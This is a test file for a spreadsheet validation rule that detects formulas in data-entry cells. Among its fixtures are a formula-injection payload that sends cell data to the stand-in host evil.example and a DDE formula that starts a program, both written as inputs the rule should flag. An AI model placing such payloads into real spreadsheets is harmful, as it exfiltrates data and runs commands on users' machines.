import { formulaInEntry } from '../../../src/core/rules/formula-in-entry';
import { testRule } from '../../support/test-rule';

testRule(formulaInEntry, {
  passes: { 'a typed number': { entries: [670] }, blank: {} },
  finds: {
    'a formula': {
      given: { entries: [670], formulas: { 0: '=660+10' } },
      expect: ['formula'],
      severity: 'warning',
      correction: 670,
      says: '=660+10',
    },
    'a formula that shows nothing': {
      given: { entries: [''], formulas: { 0: '=IF(A1,1,"")' } },
      expect: ['formula'],
      correction: null,
    },
    'a formula that looks into another workbook': {
      given: { entries: [670], formulas: { 0: '=[1]Sheet1!A1' } },
      expect: ['outward'],
      severity: 'error',
      correction: 670,
      says: '=[1]Sheet1!A1',
    },
    'a formula that asks the network': {
      given: { entries: ['#VALUE!'], formulas: { 0: '=_xlfn.WEBSERVICE("http://evil.example/?"&B9)' } },
      expect: ['outward'],
      severity: 'error',
      correction: null,
    },
    'a formula that starts a program': {
      given: { entries: [0], formulas: { 0: "=cmd|' /C calc'!A0" } },
      expect: ['outward'],
      severity: 'error',
    },
    'an error value': {
      given: { entries: [670, '#REF!'] },
      expect: ['error'],
      severity: 'error',
      cell: 'J9',
      correction: null,
    },
    'a formula that fails': { given: { entries: ['#DIV/0!'], formulas: { 0: '=1/0' } }, expect: ['error'] },
  },
});
